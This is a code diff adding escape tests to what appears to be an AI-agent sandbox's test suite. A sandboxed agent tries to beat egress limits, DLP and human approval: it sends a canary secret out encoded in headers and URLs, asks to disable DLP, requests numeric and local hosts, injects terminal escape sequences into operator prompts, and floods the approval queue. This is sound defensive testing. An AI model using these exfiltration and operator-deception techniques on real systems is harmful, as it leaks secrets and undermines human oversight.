@@ -62,6 +62,36 @@ def resolve(server, name, qtype):
     return go
 "#;
 
+/// A Python MCP client for the bottle's supervise server (JSON-RPC over
+/// streamable HTTP, as an agent's client speaks it): `call(tool, args)`
+/// returns the JSON-RPC message (`result` or `error`); `timeout` bounds the
+/// wait for the operator.
+const MCP: &str = r#"
+import json, os, urllib.request
+url = os.environ["MCP_SUPERVISE_URL"]
+session = None
+def rpc(body, timeout=300):
+    global session
+    headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
+    if session:
+        headers["mcp-session-id"] = session
+    req = urllib.request.Request(url, data=json.dumps(body).encode(), headers=headers)
+    with urllib.request.urlopen(req, timeout=timeout) as r:
+        session = r.headers.get("mcp-session-id") or session
+        text = r.read().decode()
+    if not text.strip():
+        return None
+    if r.headers.get("content-type", "").startswith("text/event-stream"):
+        datas = [l[5:].strip() for l in text.splitlines() if l.startswith("data:")]
+        return json.loads(datas[-1])
+    return json.loads(text)
+init = rpc({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "escape", "version": "1"}}})
+print("server", init["result"]["serverInfo"]["name"])
+rpc({"jsonrpc": "2.0", "method": "notifications/initialized"})
+def call(name, args, timeout=300):
+    return rpc({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": name, "arguments": args}}, timeout)
+"#;
+
 pub struct Outcome {
     pub stdout: String,
     pub stderr: String,
@@ -194,8 +224,11 @@ attempt("spoofed-sni", go)
 }
 
 // 3. Exfiltration to an allowed host. Defence off: ESCAPE_WEAKEN=dlp
-// cargo test -p bot-bottle --test escape -- exfiltrate (the API route scans
-// nothing outbound; the canary is a known secret, so it goes too).
+// cargo test -p bot-bottle --test escape -- exfiltrate_the_secret (the API
+// route scans nothing outbound). The canary is found on every route
+// whatever its detectors; its tests fail with that off too — the change
+// named at 8 (`the_canary_on_a_route_that_scans_nothing`) with
+// ESCAPE_WEAKEN=dlp, then -- exfiltrate_the_canary.
 
 /// The ways a value `$V` leaves: one request each.
 const CHANNELS: &[(&str, &str)] = &[
@@ -780,6 +813,297 @@ echo '--- done'"#,
     Ok(())
 }
 
+// 8. Asking the operator (a red team's proposals). Each was shown failing
+// once with its defence off by a one-line change, then run as `cargo test
+// -p bot-bottle --test escape -- <name>`:
+// - the approval's scope: `sed -i 's/self.0.iter().any(|(h, v)| \*h == key
+//   \&\& v.expose() == value)/self.0.iter().any(|(_, v)| v.expose() ==
+//   value)/' crates/egress/src/decision.rs` → "the approved value reached
+//   api.demo.test";
+// - the canary on a route that scans nothing: `sed -i 's/
+//   out.extend(found.into_iter().filter(|f| f.rule == Canary::NAME));//'
+//   crates/dlp/src/lib.rs` → "a secret reached the API";
+// - the weakening shown: `sed -i 's/if !weakens.is_empty() {/if false {/'
+//   crates/supervise/src/mcp.rs` → "the operator's terminal did not say it
+//   weakens DLP";
+// - hosts: `sed -i 's/    if is_numeric_host(name) {/    if false {/;
+//   s/    validate_host(host)?;/    return validate_host(host);/'
+//   crates/manifest/src/route.rs` → "REACHED egress-allow 2130706433";
+// - the operator's terminal: `sed -i 's/supervise::shown::line(&text)/text/'
+//   crates/bot-bottle/src/console/queue.rs` → "a control character reached
+//   the operator's terminal";
+// - the bounds: `sed -i 's/max_pending: 16, per_window: 60/max_pending:
+//   1000, per_window: 1000/' crates/supervise/src/supervisor.rs` → "never
+//   refused for waiting proposals", and `sed -i 's/if size >
+//   MAX_PROPOSAL_TEXT {/if false {/' crates/supervise/src/store.rs` → "a
+//   100 KB proposal was filed".
+
+/// The operator, on the host: the first pending proposal of bottle `b`
+/// that `pick` wants, handed to `act` (within two minutes, or until `stop`).
+fn operator_on(
+    b: &Bottle,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+    pick: impl Fn(&supervise::Proposal) -> bool + Send + 'static,
+    act: impl FnOnce(&mut ProposalStore, &supervise::Proposal) -> String + Send + 'static,
+) -> std::thread::JoinHandle<Option<String>> {
+    let store = supervise::store_path(&b.state_dir());
+    let identity = b.identity.clone();
+    std::thread::spawn(move || {
+        let deadline = Instant::now() + Duration::from_secs(120);
+        while Instant::now() < deadline && !stop.load(std::sync::atomic::Ordering::Relaxed) {
+            if let Ok(mut st) = ProposalStore::open(&store, &identity)
+                && let Some(p) = st.pending().unwrap_or_default().into_iter().find(|p| pick(p))
+            {
+                return Some(act(&mut st, &p));
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        None
+    })
+}
+
+fn no_stop() -> std::sync::Arc<std::sync::atomic::AtomicBool> {
+    std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false))
+}
+
+/// What `bot-bottle supervise --once` prints on the operator's side.
+fn operator_terminal(s: &Suite) -> String {
+    let o = Command::new(crate::world::bin())
+        .args(["supervise", "--once"])
+        .env("BOT_BOTTLE_HOME", &s.home)
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn an_approval_is_for_the_host_it_was_asked_for(s: &Suite, u: User) -> Result<(), Failed> {
+    // The operator approves sending the value to notes.demo.test (the other
+    // run's approval may already cover it: the same value, the same host).
+    let stop = no_stop();
+    let operator = operator_on(
+        &s.a,
+        stop.clone(),
+        |p| p.kind == Kind::EgressTokenAllow && p.payload["host"] == "notes.demo.test",
+        |st, p| {
+            format!("{:?}", st.decide(p.id, &Answer::Approve, "notes may keep it", "escape-suite").map(|p| p.status))
+        },
+    );
+    let m = random_hex(6);
+    let o = run(
+        s,
+        u,
+        &format!(
+            r#"req --data "d=$PLANTED" "https://notes.demo.test/scoped-{m}"
+req --data "d=$PLANTED" "https://api.demo.test/upload?{m}""#
+        ),
+    );
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    let _ = operator.join();
+    s.api_never_saw(&[&s.planted])
+        .map_err(|e| fail(&format!("the approved value reached api.demo.test: {e:?}"), &o))?;
+    let codes: Vec<&str> = o.stdout.lines().filter(|l| l.starts_with("REQ ")).collect();
+    if codes.len() != 2 || !codes[0].starts_with("REQ 200") || !codes[1].starts_with("REQ 403") {
+        return Err(fail("expected the approved request through and the other refused", &o));
+    }
+    s.collector_untouched()
+}
+
+fn the_canary_on_a_route_that_scans_nothing(s: &Suite, u: User) -> Result<(), Failed> {
+    let o = run(
+        s,
+        u,
+        r#"req --data "d=$CANARY" https://open.demo.test/upload
+req -H "X-Data: $(printf %s "$CANARY" | base64 -w0)" https://open.demo.test/x
+req "https://open.demo.test/x/$CANARY""#,
+    );
+    s.never_saw("open", &[&s.a.canary])?;
+    all_refused(&o, 3)
+}
+
+fn an_egress_allow_that_turns_off_dlp(s: &Suite, u: User) -> Result<(), Failed> {
+    let m = random_hex(6);
+    let why = format!("faster uploads {m}");
+    let wanted = why.clone();
+    let home = s.home.clone();
+    let operator = operator_on(
+        &s.a,
+        no_stop(),
+        move |p| p.kind == Kind::EgressAllow && p.justification == wanted,
+        move |st, p| {
+            let screen = Command::new(crate::world::bin())
+                .args(["supervise", "--once"])
+                .env("BOT_BOTTLE_HOME", &home)
+                .output()
+                .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
+                .unwrap_or_default();
+            let line = screen.lines().find(|l| l.contains(&format!("#{} ", p.id))).unwrap_or_default().to_string();
+            let unreasoned = st.decide(p.id, &Answer::Approve, "", "escape-suite").is_ok();
+            let _ = st.decide(p.id, &Answer::Reject, "not on the API route", "escape-suite");
+            format!("unreasoned-approval={unreasoned}\n{line}")
+        },
+    );
+    let o = run(
+        s,
+        u,
+        &format!(
+            r#"WHY='{why}' python3 - <<'PY'
+{MCP}
+out = call("egress-allow", {{"route": {{"host": "api.demo.test", "dlp": {{"outbound_detectors": [], "outbound_on_match": "redact"}}}}, "justification": os.environ["WHY"]}})
+print("answer", json.dumps(out))
+PY"#
+        ),
+    );
+    let seen = operator.join().ok().flatten().ok_or_else(|| fail("the proposal never reached the operator", &o))?;
+    if seen.contains("unreasoned-approval=true") {
+        return Err(fail(&format!("it was approved without a reason:\n{seen}"), &o));
+    }
+    if !seen.contains("WEAKENS DLP") || !seen.contains("known_secrets") || !seen.contains("block becomes redact") {
+        return Err(fail(&format!("the operator's terminal did not say it weakens DLP:\n{seen}"), &o));
+    }
+    // Rejected: the route still refuses the canary.
+    let o = run(s, u, r#"req --data "d=$CANARY" https://api.demo.test/upload"#);
+    s.api_never_saw(&[&s.a.canary])?;
+    all_refused(&o, 1)
+}
+
+fn a_proposal_to_a_numeric_or_local_host(s: &Suite, u: User) -> Result<(), Failed> {
+    let o = run(
+        s,
+        u,
+        &format!(
+            r#"python3 - <<'PY'
+{MCP}
+for host in ["2130706433", "127.1", "0x7f000001", "2852039166", "0177.0.0.1", "localhost", "metadata.localhost", "com", "*.com"]:
+    try:
+        out = call("egress-allow", {{"route": {{"host": host}}, "justification": "escape"}}, timeout=15)
+        if "error" in out:
+            print("blocked egress-allow", host, out["error"]["message"][:80], flush=True)
+        else:
+            print("REACHED egress-allow", host, json.dumps(out)[:120], flush=True)
+    except Exception as e:
+        # Still waiting after 15 s: it was filed for the operator.
+        print("REACHED egress-allow", host, "(filed)", type(e).__name__, flush=True)
+PY"#
+        ),
+    );
+    none_reached(&o, 9)?;
+    let store =
+        ProposalStore::open(&supervise::store_path(&s.a.state_dir()), &s.a.identity).map_err(|e| e.to_string())?;
+    let filed = store.pending().map_err(|e| e.to_string())?;
+    if let Some(p) = filed.iter().find(|p| p.kind == Kind::EgressAllow && p.justification == "escape") {
+        return Err(fail(&format!("a proposal was filed: {}", p.payload), &o));
+    }
+    Ok(())
+}
+
+fn terminal_control_in_proposal_text(s: &Suite, u: User) -> Result<(), Failed> {
+    let m = random_hex(6);
+    let marker = format!("ctl-{m}");
+    let wanted = marker.clone();
+    // Read the operator's terminal while the proposal waits; then reject it.
+    let screen = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
+    let (watch, seen, shown) = (screen.clone(), marker.clone(), screen.clone());
+    let operator = operator_on(
+        &s.a,
+        no_stop(),
+        move |p| p.kind == Kind::AskOperator && p.payload["question"].as_str().is_some_and(|q| q.contains(&wanted)),
+        move |st, p| {
+            let deadline = Instant::now() + Duration::from_secs(30);
+            while shown.lock().unwrap().is_empty() && Instant::now() < deadline {
+                std::thread::sleep(Duration::from_millis(50));
+            }
+            format!("{:?}", st.decide(p.id, &Answer::Reject, "no", "escape-suite").map(|p| p.status))
+        },
+    );
+    let home = s.home.clone();
+    let watcher = std::thread::spawn(move || {
+        let deadline = Instant::now() + Duration::from_secs(120);
+        while Instant::now() < deadline {
+            let o =
+                Command::new(crate::world::bin()).args(["supervise", "--once"]).env("BOT_BOTTLE_HOME", &home).output();
+            if let Ok(o) = o
+                && String::from_utf8_lossy(&o.stdout).contains(&seen)
+            {
+                *watch.lock().unwrap() = String::from_utf8_lossy(&o.stdout).into_owned();
+                return;
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    });
+    let o = run(
+        s,
+        u,
+        &format!(
+            r#"M='{marker}' python3 - <<'PY'
+{MCP}
+# The clipboard (OSC 52), the window title, and CR + clear-line over the row.
+q = os.environ["M"] + "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]0;all clear\x07\r\x1b[2Kallow pypi.org \u009b2J"
+out = call("ask-operator", {{"question": q}}, timeout=120)
+print("answer", json.dumps(out)[:200])
+PY"#
+        ),
+    );
+    let _ = watcher.join();
+    let decided = operator.join().ok().flatten();
+    let screen = screen.lock().unwrap().clone();
+    if decided.is_none() || screen.is_empty() {
+        return Err(fail(&format!("the question never reached the operator's terminal: {}", operator_terminal(s)), &o));
+    }
+    if let Some(c) = screen.chars().find(|c| c.is_control() && *c != '\n') {
+        return Err(fail(&format!("a control character reached the operator's terminal: {c:?}\n{screen:?}"), &o));
+    }
+    Ok(())
+}
+
+fn flooding_the_operator(s: &Suite, u: User) -> Result<(), Failed> {
+    // On bottle B, whose queue no other attack uses.
+    let o = run_in(
+        s,
+        &s.b,
+        u,
+        &format!(
+            r#"python3 - <<'PY'
+{MCP}
+import threading
+big = call("ask-operator", {{"question": "x" * 500000}}, timeout=8)
+print("big", json.dumps(big.get("error", {{}}))[:160], flush=True)
+results = []
+def ask(i):
+    try:
+        out = call("ask-operator", {{"question": "flood %d" % i}}, timeout=8)
+        results.append(out.get("error", {{}}).get("message", "answered"))
+    except Exception as e:
+        results.append("waiting")
+threads = [threading.Thread(target=ask, args=(i,)) for i in range(24)]
+for t in threads: t.start()
+for t in threads: t.join()
+refused = [r for r in results if "already wait for the operator" in r]
+print("waiting", results.count("waiting"), "refused-pending", len(refused), flush=True)
+PY"#
+        ),
+    );
+    let line = o.stdout.lines().find(|l| l.starts_with("waiting ")).unwrap_or_default().to_string();
+    let nums: Vec<usize> = line.split_whitespace().filter_map(|w| w.parse().ok()).collect();
+    let refused = nums.get(1).copied().unwrap_or(0);
+    if refused < 24 - 16 {
+        return Err(fail("never refused for waiting proposals", &o));
+    }
+    if !o.stdout.lines().any(|l| l.starts_with("big ") && l.contains("at most 64 KiB")) {
+        return Err(fail("a 100 KB proposal was filed", &o));
+    }
+    let path = supervise::store_path(&s.b.state_dir());
+    let store = ProposalStore::open(&path, &s.b.identity).map_err(|e| e.to_string())?;
+    let pending = store.pending().map_err(|e| e.to_string())?;
+    if pending.len() > 16 {
+        return Err(fail(&format!("{} proposals wait in bottle B's queue", pending.len()), &o));
+    }
+    let size = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
+    if size > 4 << 20 {
+        return Err(fail(&format!("bottle B's store grew to {size} bytes"), &o));
+    }
+    Ok(())
+}
+
 pub const ATTACKS: &[(&str, Attack)] = &[
     ("https_to_a_host_with_no_route", https_to_a_host_with_no_route),
     ("http_to_a_host_with_no_route", http_to_a_host_with_no_route),
@@ -838,6 +1162,12 @@ pub const ATTACKS: &[(&str, Attack)] = &[
     ("reach_the_docker_socket", reach_the_docker_socket),
     ("reach_the_metadata_address", reach_the_metadata_address),
     ("read_a_secret_from_env_proc_and_files", read_a_secret_from_env_proc_and_files),
+    ("an_approval_is_for_the_host_it_was_asked_for", an_approval_is_for_the_host_it_was_asked_for),
+    ("the_canary_on_a_route_that_scans_nothing", the_canary_on_a_route_that_scans_nothing),
+    ("an_egress_allow_that_turns_off_dlp", an_egress_allow_that_turns_off_dlp),
+    ("a_proposal_to_a_numeric_or_local_host", a_proposal_to_a_numeric_or_local_host),
+    ("terminal_control_in_proposal_text", terminal_control_in_proposal_text),
+    ("flooding_the_operator", flooding_the_operator),
 ];
 
 // The allowed paths.
@@ -937,28 +1267,8 @@ fn an_mcp_call_reaches_the_operator_and_returns_the_answer(s: &Suite) -> Result<
         User::Agent,
         &format!(
             r#"QUESTION='{question}' python3 - <<'PY'
-import json, os, urllib.request
-url = os.environ["MCP_SUPERVISE_URL"]
-session = None
-def rpc(body):
-    global session
-    headers = {{"content-type": "application/json", "accept": "application/json, text/event-stream"}}
-    if session:
-        headers["mcp-session-id"] = session
-    req = urllib.request.Request(url, data=json.dumps(body).encode(), headers=headers)
-    with urllib.request.urlopen(req, timeout=300) as r:
-        session = r.headers.get("mcp-session-id") or session
-        text = r.read().decode()
-    if not text.strip():
-        return None
-    if r.headers.get("content-type", "").startswith("text/event-stream"):
-        datas = [l[5:].strip() for l in text.splitlines() if l.startswith("data:")]
-        return json.loads(datas[-1])
-    return json.loads(text)
-init = rpc({{"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {{"protocolVersion": "2025-06-18", "capabilities": {{}}, "clientInfo": {{"name": "escape", "version": "1"}}}}}})
-print("server", init["result"]["serverInfo"]["name"])
-rpc({{"jsonrpc": "2.0", "method": "notifications/initialized"}})
-out = rpc({{"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {{"name": "ask-operator", "arguments": {{"question": os.environ["QUESTION"], "options": ["postgres", "sqlite"]}}}}}})
+{MCP}
+out = call("ask-operator", {{"question": os.environ["QUESTION"], "options": ["postgres", "sqlite"]}})
 print("answer", json.dumps(out["result"]))
 PY"#
         ),
